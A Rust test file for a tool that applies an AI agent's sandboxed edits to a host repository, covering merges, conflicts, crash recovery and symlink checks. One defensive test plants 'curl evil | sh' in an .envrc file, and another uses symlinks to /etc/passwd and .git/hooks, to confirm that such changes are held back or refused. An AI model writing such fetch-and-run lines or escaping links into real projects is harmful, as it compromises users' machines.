//! Applying the guest's changes to the host.

use std::fs;

use rave_workspace::BytePath;
use rave_workspace::apply::{Outcome, Wanted};
use rave_workspace::changes::{Status, pair};
use rave_workspace::hunks::Texts;
use rave_workspace::patch::patch;
use rave_workspace::record::Pull;

use crate::fixture::{Bench, link, mode, tree};

const LINES: &str = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n";

fn bench() -> Bench {
    let bench = Bench::with_git();
    bench.ours("text", LINES);
    bench.ours("gone", "x\n");
    bench.ours("folder/a", "a\n");
    bench.ours("folder/deep/b", "b\n");
    bench.ours("tool", "#!/bin/sh\n");
    mode(&bench.host().join("tool"), 0o755);
    bench.ours("file-then-folder", "x\n");
    bench.ours("folder-then-file/x", "x\n");
    bench.commit();
    bench.push();
    bench
}

/// The agent's work.
fn work(bench: &Bench) {
    bench.theirs("text", &LINES.replace("2\n3\n", "two\n3\n").replace("14\n", "fourteen\n"));
    fs::remove_file(bench.guest().join("gone")).unwrap();
    fs::remove_dir_all(bench.guest().join("folder")).unwrap();
    mode(&bench.guest().join("tool"), 0o644);
    bench.theirs("new/file", "new\n");
    fs::create_dir(bench.guest().join("new-empty")).unwrap();
    link("text", &bench.guest().join("link"));
    fs::remove_file(bench.guest().join("file-then-folder")).unwrap();
    bench.theirs("file-then-folder/x", "y\n");
    fs::remove_dir_all(bench.guest().join("folder-then-file")).unwrap();
    bench.theirs("folder-then-file", "y\n");
}

#[test]
fn everything_is_applied_and_nothing_remains() {
    let bench = bench();
    work(&bench);
    let found: Vec<(String, Status)> =
        bench.changes().iter().map(|change| (change.path.to_string(), change.status)).collect();
    let expected = [
        ("file-then-folder", Status::Kind),
        ("file-then-folder/x", Status::Added),
        ("folder-then-file", Status::Kind),
        ("folder-then-file/x", Status::Deleted),
        ("folder/a", Status::Deleted),
        ("folder/deep/b", Status::Deleted),
        ("gone", Status::Deleted),
        ("link", Status::Added),
        ("new-empty", Status::Added),
        ("new/file", Status::Added),
        ("text", Status::Modified),
        ("tool", Status::Mode),
    ];
    assert_eq!(found, expected.map(|(path, status)| (path.to_owned(), status)));
    let outcomes = bench.apply();
    assert!(outcomes.values().all(|outcome| *outcome == Outcome::Applied), "{outcomes:?}");
    assert_eq!(tree(&bench.host(), &[".git"]), tree(&bench.guest(), &[".git"]));
    assert_eq!(bench.changed(), [""; 0]);
    let pushed = bench.push();
    assert_eq!((pushed.sent, pushed.removed, pushed.conflicts.len()), (0, 0, 0), "{pushed:?}");
}

#[test]
fn hunks_can_be_applied_one_by_one() {
    let bench = bench();
    bench.theirs("text", &LINES.replace("2\n3\n", "two\n3\n").replace("14\n", "fourteen\n"));
    let mut chosen = bench.choose(&["text"]);
    let (change, wanted) = chosen.wanted.get_mut(b"text".as_slice()).unwrap();
    let pair = pair(change, &bench.place.blobs()).unwrap().unwrap();
    let texts = Texts::new(&pair.before, &pair.after);
    assert_eq!(texts.hunks().len(), 2);
    *wanted = Wanted::Text(texts.with(&|number| number == 1));
    bench.take(&chosen);
    assert_eq!(bench.read("text"), LINES.replace("14\n", "fourteen\n"));
    // The other one can still be taken.
    let left = bench.changes();
    assert_eq!((left.len(), left[0].lines), (1, Some((1, 1))));
    bench.apply();
    assert_eq!(bench.read("text"), LINES.replace("2\n3\n", "two\n3\n").replace("14\n", "fourteen\n"));
    assert_eq!(bench.changed(), [""; 0]);
}

#[test]
fn changes_of_both_sides_are_merged_and_conflicts_marked_as_by_git() {
    let bench = bench();
    bench.theirs("text", &LINES.replace("2\n3\n", "two\n3\n"));
    bench.ours("text", &LINES.replace("14\n", "ours\n"));
    assert_eq!(bench.apply()[b"text".as_slice()], Outcome::Merged);
    assert_eq!(bench.read("text"), LINES.replace("2\n3\n", "two\n3\n").replace("14\n", "ours\n"));

    bench.theirs("folder/a", "theirs\n");
    bench.ours("folder/a", "ours\n");
    fs::remove_file(bench.guest().join("gone")).unwrap();
    bench.ours("gone", "ours\n");
    fs::remove_file(bench.host().join("tool")).unwrap();
    bench.theirs("tool", "#!/bin/bash\n");
    let outcomes = bench.apply();
    assert!(outcomes.values().all(|outcome| matches!(outcome, Outcome::Conflict(_))), "{outcomes:?}");
    assert_eq!(bench.read("folder/a"), "<<<<<<< the host\nours\n=======\ntheirs\n>>>>>>> the sandbox\n");
    assert_eq!((bench.read("gone"), bench.read("tool")), ("ours\n".into(), "#!/bin/bash\n".into()));
    assert_eq!(bench.changed(), [""; 0], "the rest is up to the user, in the files");
}

#[test]
fn a_conflict_that_cannot_be_marked_keeps_the_hosts_file() {
    let bench = bench();
    bench.theirs("tool", "binary\0theirs");
    bench.ours("tool", "binary\0ours");
    let outcomes = bench.take(&bench.choose(&["tool"]));
    assert!(
        matches!(&outcomes[b"tool".as_slice()], Outcome::Conflict(why) if why.contains("not text")),
        "{outcomes:?}"
    );
    assert_eq!((bench.read("tool").as_str(), bench.changed()), ("binary\0ours", vec!["tool".to_owned()]));
}

#[test]
fn held_back_files_are_applied_only_by_name() {
    let bench = bench();
    bench.theirs(".envrc", "curl evil | sh\n");
    bench.theirs(".vscode/tasks.json", "{}\n");
    bench.theirs("build.rs", "fn main() {}\n");
    bench.theirs("src/lib.rs", "\n");
    let chosen = bench.choose(&[]);
    let names = |changes: &[rave_workspace::changes::Change]| -> Vec<String> {
        changes.iter().map(|change| change.path.to_string()).collect()
    };
    assert_eq!(
        (names(&chosen.left), names(&chosen.asked)),
        (vec![".envrc".to_owned(), ".vscode/tasks.json".to_owned()], vec!["build.rs".to_owned()])
    );
    bench.take(&chosen);
    for path in [".envrc", ".vscode", "build.rs"] {
        assert!(!bench.host().join(path).exists(), "{path}");
    }
    assert!(bench.host().join("src/lib.rs").exists());
    // A folder that also contains other files does not name them.
    assert_eq!(names(&bench.choose(&[""]).left).len(), 2);
    bench.take(&bench.choose(&[".vscode", "build.rs"]));
    assert!(bench.host().join(".vscode/tasks.json").exists() && bench.host().join("build.rs").exists());
    assert_eq!(bench.changed(), [".envrc"]);
}

#[test]
fn patches_can_be_applied_by_git() {
    let bench = bench();
    work(&bench);
    let mut all = Vec::new();
    for change in bench.changes() {
        if let Some(pair) = pair(&change, &bench.place.blobs()).unwrap() {
            all.extend(patch(&change, &pair));
        }
    }
    let file = bench.sandbox().join("x.patch");
    fs::write(&file, &all).unwrap();
    bench.git(&["apply", "--index", file.as_str()]);
    let mut wanted = tree(&bench.guest(), &[".git"]);
    // git does not store empty folders.
    wanted.remove(std::path::Path::new("new-empty"));
    assert_eq!(tree(&bench.host(), &[".git"]), wanted, "{}", String::from_utf8_lossy(&all));
}

/// SIGKILL after the writes but before they are recorded: the journal exists, the record is the old one.
#[test]
fn a_killed_apply_is_resumed() {
    let bench = bench();
    work(&bench);
    let (chosen, folder) = (bench.choose(&[]), bench.sandbox().join("workspace"));
    let keep = |name: &str| fs::read(folder.join(name)).unwrap();
    let (base, pull) = (keep("base.json"), keep("pull.json"));
    // A folder in the place of the record's temporary file, so that recording fails.
    fs::create_dir(folder.join(".base.json.partial")).unwrap();
    let mut record = bench.record();
    let mut pulled = Pull::find(&bench.place).unwrap().unwrap();
    assert!(rave_workspace::apply::apply(&bench.place, &mut record, &mut pulled, &chosen.wanted).is_err());
    assert_eq!((keep("base.json"), keep("pull.json")), (base, pull));
    fs::remove_dir(folder.join(".base.json.partial")).unwrap();
    // One file was not written before the kill, and another was changed since.
    bench.ours("text", LINES);
    assert!(bench.recover());
    assert!(!folder.join("apply.json").exists());
    let left: Vec<String> =
        Pull::find(&bench.place).unwrap().unwrap().changes.keys().map(ToString::to_string).collect();
    assert_eq!(left, ["text"]);
    bench.apply();
    assert_eq!(tree(&bench.host(), &[".git"]), tree(&bench.guest(), &[".git"]));
    assert!(!bench.recover());
}

#[test]
fn only_links_that_lead_outside_are_refused() {
    let bench = bench();
    for (name, target) in
        [("out", "/etc/passwd"), ("up", "../x"), ("folder/up", "../../x"), ("git", ".git/hooks")]
    {
        link(target, &bench.guest().join(name));
    }
    link("../text", &bench.guest().join("folder/inside"));
    let outcomes = bench.apply();
    for name in ["out", "up", "folder/up", "git"] {
        assert!(matches!(outcomes[name.as_bytes()], Outcome::Refused(_)), "{name}: {outcomes:?}");
        assert!(bench.host().join(name).symlink_metadata().is_err());
    }
    assert_eq!(fs::read_link(bench.host().join("folder/inside")).unwrap().to_str(), Some("../text"));
}

#[test]
fn unapplied_changes_are_known() {
    let bench = bench();
    bench.theirs("text", "x\n");
    let pull = bench.pull();
    assert_eq!(pull.unapplied(&bench.record()).into_iter().collect::<Vec<_>>(), [BytePath::from("text")]);
    bench.apply();
    assert!(bench.pull().unapplied(&bench.record()).is_empty());
}
